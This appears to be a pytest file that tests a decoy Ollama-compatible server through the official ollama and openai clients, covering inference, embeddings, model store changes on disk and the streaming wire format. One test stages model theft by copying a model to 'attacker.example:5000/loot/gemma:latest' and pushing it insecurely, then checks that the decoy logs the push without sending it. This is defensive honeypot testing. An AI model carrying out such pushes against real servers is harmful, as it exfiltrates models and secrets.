"""The official `ollama` and `openai` Python clients against the decoy, and the model store on disk after
every state change (each blob's file name is its sha256)."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import httpx
import ollama
import openai
import pytest

from support.servers import start_decoy


def blob_files(models_dir: Path) -> dict[str, Path]:
    return {p.name: p for p in (models_dir / "blobs").iterdir() if p.is_file()}


def manifest_names(models_dir: Path) -> set[str]:
    root = models_dir / "manifests"
    return {p.relative_to(root).as_posix() for p in root.glob("*/*/*/*") if p.is_file()}


def assert_store_consistent(models_dir: Path) -> None:
    """Every blob is named after its content; every manifest's digests exist with the right size."""
    blobs = blob_files(models_dir)
    for name, path in blobs.items():
        assert name == "sha256-" + hashlib.sha256(path.read_bytes()).hexdigest(), name
    for rel in manifest_names(models_dir):
        manifest = json.loads((models_dir / "manifests" / rel).read_text())
        for layer in [*manifest["layers"], manifest["config"]]:
            blob = blobs.get(layer["digest"].replace(":", "-"))
            assert blob is not None, f"{rel} references missing {layer['digest']}"
            assert blob.stat().st_size == layer["size"]


def system_of(url: str, model: str) -> str:
    """The `system` field of /api/show (this `ollama` client version does not expose it)."""
    return httpx.post(url + "/api/show", json={"model": model}).json().get("system", "")


@pytest.fixture
def decoy(tmp_path):
    with start_decoy(tmp_path, seed_models=4, extra_args=("--stream-delay", "0.001")) as d:
        yield d


def test_ollama_client_read_and_inference(decoy):
    client = ollama.Client(host=decoy.url)
    listed = client.list()
    assert {m.model for m in listed.models} == {
        "llama3.2:1b",
        "qwen2.5:0.5b",
        "gemma3:270m",
        "secret-model:latest",
    }
    shown = client.show("secret-model")
    assert "decoy-canary-" in system_of(decoy.url, "secret-model")
    assert "SYSTEM " in (shown.modelfile or "")
    assert shown.details.family == "llama" and "completion" in (shown.capabilities or [])

    reply = client.generate(model="llama3.2:1b", prompt="Why is the sky blue?")
    assert reply.done and reply.response and reply.eval_count and reply.total_duration
    parts = list(client.generate(model="llama3.2:1b", prompt="Why is the sky blue?", stream=True))
    assert len(parts) > 3 and parts[-1].done and not any(p.done for p in parts[:-1])
    assert "".join(p.response for p in parts) == reply.response  # same text, streamed or not

    chat = client.chat(model="qwen2.5:0.5b", messages=[{"role": "user", "content": "hello"}])
    assert chat.message.role == "assistant" and chat.message.content
    assert chat.prompt_eval_count and chat.eval_duration
    streamed = list(
        client.chat(model="qwen2.5:0.5b", messages=[{"role": "user", "content": "hello"}], stream=True)
    )
    assert "".join(p.message.content for p in streamed) == chat.message.content
    assert streamed[-1].done_reason == "stop"

    emb = client.embed(model="gemma3:270m", input=["one", "two"])
    assert len(emb.embeddings) == 2 and len(emb.embeddings[0]) == 640
    assert abs(sum(v * v for v in emb.embeddings[0]) - 1.0) < 1e-6
    assert emb.embeddings[0] != emb.embeddings[1]
    assert client.embed(model="gemma3:270m", input="one").embeddings[0] == emb.embeddings[0]
    legacy = client.embeddings(model="gemma3:270m", prompt="one")
    assert len(legacy.embedding) == 640

    running = client.ps()
    names = {m.model for m in running.models}
    assert {"llama3.2:1b", "qwen2.5:0.5b", "gemma3:270m"} <= names
    assert all(m.expires_at is not None and m.size > 0 for m in running.models)

    with pytest.raises(ollama.ResponseError) as missing:
        client.chat(model="nope", messages=[{"role": "user", "content": "x"}])
    assert missing.value.status_code == 404


def test_ollama_client_store_changes_hit_the_disk(decoy):
    client = ollama.Client(host=decoy.url)
    models_dir = decoy.models_dir
    before_blobs = set(blob_files(models_dir))
    assert_store_consistent(models_dir)

    assert client.copy("llama3.2:1b", "team/llama-copy:v1").status == "success"
    assert "registry.ollama.ai/team/llama-copy/v1" in manifest_names(models_dir)
    assert set(blob_files(models_dir)) == before_blobs  # a copy shares every blob
    assert "team/llama-copy:v1" in {m.model for m in client.list().models}

    assert client.delete("team/llama-copy:v1").status == "success"
    assert "registry.ollama.ai/team/llama-copy/v1" not in manifest_names(models_dir)
    assert set(blob_files(models_dir)) == before_blobs  # blobs still used by llama3.2:1b stay

    client.delete("qwen2.5:0.5b")
    assert "registry.ollama.ai/library/qwen2.5/0.5b" not in manifest_names(models_dir)
    assert len(blob_files(models_dir)) < len(before_blobs)  # its own blobs are gone
    assert "qwen2.5:0.5b" not in {m.model for m in client.list().models}
    assert_store_consistent(models_dir)

    progress = list(client.pull("hf.co/someone/tiny-model:Q4_K_M", stream=True))
    statuses = [p.status for p in progress]
    assert statuses[0] == "pulling manifest" and statuses[-1] == "success"
    assert "verifying sha256 digest" in statuses and "writing manifest" in statuses
    layer_events = [p for p in progress if p.digest]
    assert layer_events and all(p.total for p in layer_events)
    assert any(p.completed == p.total for p in layer_events)
    assert "hf.co/someone/tiny-model/Q4_K_M" in manifest_names(models_dir)
    assert "hf.co/someone/tiny-model:Q4_K_M" in {m.model for m in client.list().models}
    assert client.pull("hf.co/someone/tiny-model:Q4_K_M").status == "success"  # not streamed: last status
    assert_store_consistent(models_dir)


def test_push_is_recorded_and_never_leaves(decoy):
    client = ollama.Client(host=decoy.url)
    client.copy("gemma3:270m", "attacker.example:5000/loot/gemma:latest")
    statuses = [
        p.status for p in client.push("attacker.example:5000/loot/gemma:latest", insecure=True, stream=True)
    ]
    assert statuses[0] == "retrieving manifest" and statuses[-1] == "success"
    assert any(s.startswith("pushing ") for s in statuses) and "pushing manifest" in statuses
    logged = [e for e in decoy.requests() if e["path"] == "/api/push"]
    assert logged and json.loads(logged[-1]["body"])["insecure"] is True
    with pytest.raises(ollama.ResponseError) as err:
        list(client.push("not-here:latest", stream=True))
    assert "no such file or directory" in str(err.value)


def test_create_from_uploaded_gguf_and_from_model(decoy):
    client = ollama.Client(host=decoy.url)
    # Take a real GGUF from the store, upload it as a new blob through the API (like `ollama create` does).
    shown = client.show("llama3.2:1b")
    shown_path = Path(next(line[5:] for line in shown.modelfile.splitlines() if line.startswith("FROM ")))
    assert shown_path.parent == Path("/usr/share/ollama/.ollama/models/blobs")  # where Ollama keeps it
    blob_path = decoy.models_dir / "blobs" / shown_path.name
    upload = decoy.models_dir.parent / "model.gguf"
    upload.write_bytes(blob_path.read_bytes())
    digest = client.create_blob(upload)
    assert digest == "sha256:" + hashlib.sha256(upload.read_bytes()).hexdigest()

    statuses = [
        p.status
        for p in client.create(
            model="custom:1",
            files={"model.gguf": digest},
            template="{{ .Prompt }}",
            system="be brief",
            parameters={"temperature": 0.1},
            stream=True,
        )
    ]
    assert statuses[0] == "parsing GGUF" and statuses[-1] == "success" and "writing manifest" in statuses
    custom = client.show("custom:1")
    assert custom.template == "{{ .Prompt }}" and system_of(decoy.url, "custom:1") == "be brief"
    assert "temperature" in (custom.parameters or "") and custom.details.family == "llama"
    assert "registry.ollama.ai/library/custom/1" in manifest_names(decoy.models_dir)

    derived = client.create(model="derived", from_="custom:1", system="different")
    assert derived.status == "success"
    assert system_of(decoy.url, "derived") == "different"
    assert client.show("derived").template == "{{ .Prompt }}"  # inherited layer
    assert_store_consistent(decoy.models_dir)

    with pytest.raises(ollama.ResponseError) as err:
        client.create(model="broken", files={"x.gguf": "sha256:" + hashlib.sha256(b"nope").hexdigest()})
    assert "no such file" in str(err.value)


def test_openai_client(decoy):
    client = openai.OpenAI(base_url=decoy.url + "/v1", api_key="x", max_retries=0)
    models = client.models.list()
    assert {m.id for m in models.data} == {
        "llama3.2:1b",
        "qwen2.5:0.5b",
        "gemma3:270m",
        "secret-model:latest",
    }
    assert all(m.owned_by == "library" and m.object == "model" for m in models.data)
    assert client.models.retrieve("llama3.2:1b").id == "llama3.2:1b"

    done = client.chat.completions.create(model="llama3.2:1b", messages=[{"role": "user", "content": "hi"}])
    assert done.object == "chat.completion" and done.choices[0].finish_reason == "stop"
    text = done.choices[0].message.content
    assert text and done.usage.total_tokens == done.usage.prompt_tokens + done.usage.completion_tokens

    chunks = list(
        client.chat.completions.create(
            model="llama3.2:1b",
            messages=[{"role": "user", "content": "hi"}],
            stream=True,
            stream_options={"include_usage": True},
        )
    )
    streamed = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    assert streamed == text
    assert chunks[-1].choices == [] and chunks[-1].usage.completion_tokens == done.usage.completion_tokens

    limited = client.chat.completions.create(
        model="llama3.2:1b", max_tokens=2, messages=[{"role": "user", "content": "hi"}]
    )
    assert limited.choices[0].finish_reason == "length" and limited.usage.completion_tokens == 2

    completion = client.completions.create(model="llama3.2:1b", prompt="Once upon a time")
    assert completion.choices[0].text and completion.usage.completion_tokens > 0

    emb = client.embeddings.create(model="gemma3:270m", input=["a", "b"])
    assert [d.index for d in emb.data] == [0, 1] and len(emb.data[0].embedding) == 640

    with pytest.raises(openai.NotFoundError) as err:
        client.chat.completions.create(model="nope", messages=[{"role": "user", "content": "hi"}])
    assert "not found" in str(err.value)


def test_openai_sse_wire_format(decoy):
    body = {"model": "llama3.2:1b", "messages": [{"role": "user", "content": "hi"}], "stream": True}
    with httpx.stream("POST", decoy.url + "/v1/chat/completions", json=body, timeout=10) as r:
        assert r.headers["content-type"] == "text/event-stream"
        raw = r.read().decode()
    events = [e for e in raw.split("\n\n") if e]
    assert all(e.startswith("data: ") for e in events)
    assert events[-1] == "data: [DONE]"
    first = json.loads(events[0][6:])
    assert first["object"] == "chat.completion.chunk" and first["system_fingerprint"] == "fp_ollama"
    r = httpx.post(decoy.url + "/v1/chat/completions", json={"model": "llama3.2:1b", "messages": []})
    assert r.status_code == 400
    assert r.json() == {
        "error": {
            "message": "[] is too short - 'messages'",
            "type": "invalid_request_error",
            "param": None,
            "code": None,
        }
    }
